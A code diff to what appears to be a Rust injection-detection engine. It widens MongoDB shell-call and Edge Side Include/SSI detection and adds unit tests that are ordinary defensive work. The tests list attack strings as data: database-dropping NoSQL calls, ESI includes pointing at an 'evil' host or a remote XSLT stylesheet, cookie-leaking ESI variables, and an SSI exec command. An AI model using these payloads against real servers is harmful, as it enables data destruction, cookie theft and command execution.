@@ -217,20 +217,50 @@ pub(crate) fn nosql(lower: &str, kind: ValueKind<'_>, sink: &mut Sink<'_>) {
             .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
             .count();
         let after = &rest[coll..];
-        if coll > 0
+        // `db.getCollectionNames()`, `db.dropDatabase()`: a call on the
+        // database object itself, `db` a whole word.
+        let word_start = p == 0 || !(s[p - 1].is_ascii_alphanumeric() || s[p - 1] == b'_');
+        let database_call = word_start
             && [
-                "find(",
-                "insert(",
-                "remove(",
-                "update(",
-                "drop(",
-                "aggregate(",
-                "deletemany(",
-                "insertone(",
-                "findone(",
+                "getcollectionnames(",
+                "getcollectioninfos(",
+                "getcollection(",
+                "dropdatabase(",
+                "getsiblingdb(",
+                "runcommand(",
+                "admincommand(",
+                "eval(",
+                "createuser(",
+                "getusers(",
+                "serverstatus(",
             ]
             .iter()
-            .any(|m| after.strip_prefix('.').is_some_and(|a| a.starts_with(m)))
+            .any(|m| rest.starts_with(m));
+        if database_call
+            || coll > 0
+                && [
+                    "find(",
+                    "insert(",
+                    "remove(",
+                    "update(",
+                    "drop(",
+                    "aggregate(",
+                    "deletemany(",
+                    "deleteone(",
+                    "insertone(",
+                    "insertmany(",
+                    "updateone(",
+                    "updatemany(",
+                    "replaceone(",
+                    "findone(",
+                    "findoneandupdate(",
+                    "findoneanddelete(",
+                    "mapreduce(",
+                    "distinct(",
+                    "renamecollection(",
+                ]
+                .iter()
+                .any(|m| after.strip_prefix('.').is_some_and(|a| a.starts_with(m)))
         {
             sink.report(
                 &rules::NOSQL_JS,
@@ -278,6 +308,39 @@ pub(crate) fn nosql(lower: &str, kind: ValueKind<'_>, sink: &mut Sink<'_>) {
         && lower.trim_start().starts_with(['\'', '"', ';'])
     {
         sink.report(&rules::NOSQL_JS, lower, p..(p + 12).min(lower.len()));
+    }
+}
+
+#[cfg(test)]
+mod nosql_tests {
+    use crate::tests::{assert_clean, assert_detects};
+
+    /// MongoDB shell calls reach the engine without any of the operator
+    /// characters (the dispatcher's `db.` gate literal).
+    #[test]
+    fn mongo_shell_calls() {
+        for attack in [
+            "db.users.find({})",
+            "db.users.drop()",
+            "db.injection.remove({})",
+            "db.getCollectionNames()",
+            "db.dropDatabase()",
+            "db.accounts.updateMany({}, {x: 1})",
+            "x=db.getSiblingDB('admin')",
+            "db.injection.insert({success:1});",
+        ] {
+            assert_detects(attack, "nosql.js_injection");
+        }
+        for benign in [
+            "db.example.com",
+            "mydb.sqlite",
+            "see db.users for the schema",
+            "db.users",
+            "db.getcollectionnames is documented here",
+            "mongodb.eval is deprecated",
+        ] {
+            assert_clean(benign);
+        }
     }
 }
 
@@ -677,6 +740,14 @@ pub(crate) fn ssi(lower: &str, sink: &mut Sink<'_>) {
             return;
         }
     }
+    // `<!--esi $(HTTP_COOKIE) -->`: an ESI processor strips the comment
+    // markers and runs what is inside; a browser shows nothing.
+    for (p, _) in crate::text::find_iter(lower, "<!--esi") {
+        if lower[p + 7..].starts_with(|c: char| c.is_ascii_whitespace() || c == '<' || c == '$') {
+            sink.report(&rules::SSI_DIRECTIVE, lower, p..(p + 40).min(lower.len()));
+            return;
+        }
+    }
     for (p, _) in crate::text::find_iter(lower, "<!--#") {
         let rest = lower[p + 5..].trim_start();
         if [
@@ -688,6 +759,41 @@ pub(crate) fn ssi(lower: &str, sink: &mut Sink<'_>) {
         {
             sink.report(&rules::SSI_DIRECTIVE, lower, p..(p + 40).min(lower.len()));
             return;
+        }
+    }
+}
+
+#[cfg(test)]
+mod ssi_tests {
+    use crate::tests::{assert_clean, assert_detects};
+
+    /// Edge Side Include tags and the ESI comment form reach the engine
+    /// (the dispatcher's SSI gate lists `<esi:` and `<!--esi`).
+    #[test]
+    fn edge_side_includes() {
+        for attack in [
+            "<esi:include src=http://google.com/>",
+            "<esi:include src=\"http://host/poc.xml\" dca=\"xslt\" stylesheet=\"http://x/poc.xsl\" />",
+            "<esi:debug/>",
+            "<ESI:vars>$(HTTP_COOKIE)</esi:vars>",
+            "<esi:assign name=\"var1\" value=\"'x'\"/>",
+            "x<esi:when test=\"$(HTTP_HOST)=='x'\">",
+            "<!--esi $(HTTP_COOKIE) -->",
+            "<!--esi<esi:include src=\"http://evil/\"/>-->",
+            "%3Cesi%3Ainclude%20src%3D%22http%3A%2F%2Fevil%2F%22%2F%3E",
+            "<!--#exec cmd=\"ls\" -->",
+        ] {
+            assert_detects(attack, "ssi.directive");
+        }
+        for benign in [
+            "<esi> is our internal codename",
+            "the esi:include tag is documented on the wiki",
+            "<esim:item>",
+            "<!--esimate-->",
+            "<!-- comment -->",
+            "our ESI cache (esi: edge side includes) is on",
+        ] {
+            assert_clean(benign);
         }
     }
 }
